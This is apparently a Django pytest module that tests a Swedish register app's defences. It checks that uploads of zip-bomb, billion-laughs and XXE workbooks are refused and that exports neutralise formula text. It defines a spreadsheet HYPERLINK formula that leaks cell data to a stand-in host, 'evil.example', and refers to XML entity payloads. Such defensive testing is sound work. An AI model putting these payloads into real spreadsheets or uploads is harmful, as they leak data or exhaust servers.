"""Hostile and odd input to the register: uploads, exports, records whose files or cities are missing (issue 14)."""

import csv
import io

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from utblick.core.tests import hostile
from utblick.engagements.choices import Kind
from utblick.engagements.imports import INLINE_BYTES
from utblick.engagements.models import Attachment, Engagement, EngagementImport, Trip, TripLeg
from utblick.strategies.tests.factories import strategy_for

from .factories import EngagementFactory

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A3,"Klicka här")'


def _import_url(world, kind: str = "training") -> str:
    return f"/o/{world.org_a.slug}/engagements/import/{kind}/"


@pytest.fixture(scope="module")
def bomb_files(tmp_path_factory):
    folder = tmp_path_factory.mktemp("register-bombs")
    return {
        "bomb": hostile.xlsx_bomb(folder / "bomb.xlsx").read_bytes(),
        "lying": hostile.xlsx_bomb(folder / "lying.xlsx", lying=True).read_bytes(),
    }


@pytest.mark.parametrize(
    ("case", "words"),
    [
        ("bomb", "packas upp till mer än 100 MB"),
        ("lying", "packas inte upp till det som dess filhuvud anger"),
        ("billion-laughs", "dokumenttypsdeklaration"),
        ("xxe", "dokumenttypsdeklaration"),
    ],
)
def test_a_hostile_workbook_is_refused_on_the_import_page_and_nothing_is_written(
    world, client_for, bomb_files, case, words, django_capture_on_commit_callbacks
):
    strategy_for(world.org_a)
    data = {
        "billion-laughs": lambda: hostile.xlsx_with_entities(hostile.BILLION_LAUGHS, hostile.LAUGH),
        "xxe": lambda: hostile.xlsx_with_entities(hostile.xxe(), b"&xxe;"),
    }.get(case, lambda: bomb_files[case])()
    client = client_for("coordinator_a")
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(_import_url(world), {"file": SimpleUploadedFile("utbildningar.xlsx", data)})
    if len(data) > INLINE_BYTES:  # a large file is read by the task worker; its page tells the outcome
        assert response.status_code == 302
        response = client.get(response["Location"])
        job = EngagementImport.objects.get()
        assert job.state == EngagementImport.State.REJECTED and not job.file  # the upload is not kept
    else:
        assert response.status_code == 400
    page = response.content.decode()
    assert words in page and "root:" not in page
    assert not Engagement.objects.exists()


def test_a_csv_with_doubled_quotes_and_swedish_numbers_is_imported_column_by_column(world, client_for):
    strategy_for(world.org_a)
    rows = (
        "\ufefftitle;unit;status;starts_on;directions;topic;politicians;management;staff\r\n"
        '"Besök ""Hamnen"", etapp 2";miljo;completed;2026-03-01;Profilering;"EU-program;\r\nflera dagar";1;2;3\r\n'
    )
    response = client_for("coordinator_a").post(
        _import_url(world), {"file": SimpleUploadedFile("utbildningar.csv", rows.encode())}
    )
    assert response.status_code == 302, response.content.decode()[-2000:]
    engagement = Engagement.objects.get()
    assert engagement.title == 'Besök "Hamnen", etapp 2'
    assert engagement.training.topic.splitlines() == ["EU-program;", "flera dagar"]  # a line break inside quotes
    assert engagement.training.participants == 6


def test_text_that_looks_like_a_formula_stays_text_in_the_exports_and_numbers_stay_numbers(world, client_for):
    EngagementFactory(owner_unit=world.unit_a, title=FORMULA, case_number="-2026/17", expected_results="@SUM(A1:A9)")
    client = client_for("reader_a")
    workbook = load_workbook(io.BytesIO(client.get(f"/o/{world.org_a.slug}/engagements/export/?format=xlsx").content))
    header, row = list(workbook.active.iter_rows(max_row=2))
    cells = {head.value: cell for head, cell in zip(header, row, strict=True)}
    title = cells["Titel"]
    assert (title.value, title.data_type, title.quotePrefix) == (FORMULA, "s", True)  # shown as written, never run
    assert cells["Diarienummer"].data_type == "s" and cells["Diarienummer"].quotePrefix
    assert cells["Id"].data_type == "n" and isinstance(cells["Id"].value, int)

    text = client.get(f"/o/{world.org_a.slug}/engagements/export/?format=csv").content.decode("utf-8-sig")
    exported = dict(zip(*list(csv.reader(io.StringIO(text)))[:2], strict=True))
    assert exported["Titel"] == "'" + FORMULA
    assert exported["Diarienummer"] == "'-2026/17" and exported["Förväntade resultat"] == "'@SUM(A1:A9)"


@pytest.mark.requirement("VX-4")
def test_correcting_a_leg_to_an_unknown_city_is_refused_on_the_form_and_changes_nothing(world, client_for):
    engagement = EngagementFactory(owner_unit=world.unit_a, kind=Kind.TRIP, title="Konferens")
    Trip.objects.create(engagement=engagement, travellers=1)
    editor = client_for("editor_a")
    leg_data = {"from_city": "Växjö", "from_country": "SE", "to_city": "Oslo", "to_country": "NO", "mode": "rail"}
    editor.post(f"/o/{world.org_a.slug}/engagements/{engagement.pk}/legs/add/", leg_data)
    leg = TripLeg.objects.get()
    response = editor.post(
        f"/o/{world.org_a.slug}/engagements/{engagement.pk}/legs/{leg.pk}/edit/",
        {**leg_data, "to_city": "Xyzzyby", "version": 1},
    )
    assert response.status_code == 200
    assert "Orten hittades inte i det landet" in response.content.decode()
    leg.refresh_from_db()
    assert (leg.to_city, leg.version) == ("Oslo", 1) and leg.to_latitude is not None


def test_an_attachment_whose_file_is_missing_says_so_and_leads_back_to_its_engagement(world, client_for):
    engagement = EngagementFactory(owner_unit=world.unit_a, kind=Kind.VISIT)
    attachment = Attachment(engagement=engagement, title="Program")
    attachment.file.save("program.pdf", ContentFile(b"%PDF-1.4"), save=True)
    attachment.file.storage.delete(attachment.file.name)
    response = client_for("reader_a").get(f"/o/{world.org_a.slug}/attachments/{attachment.pk}/")
    page = response.content.decode()
    assert response.status_code == 404 and "Filen saknas" in page
    assert attachment.get_absolute_url() in page
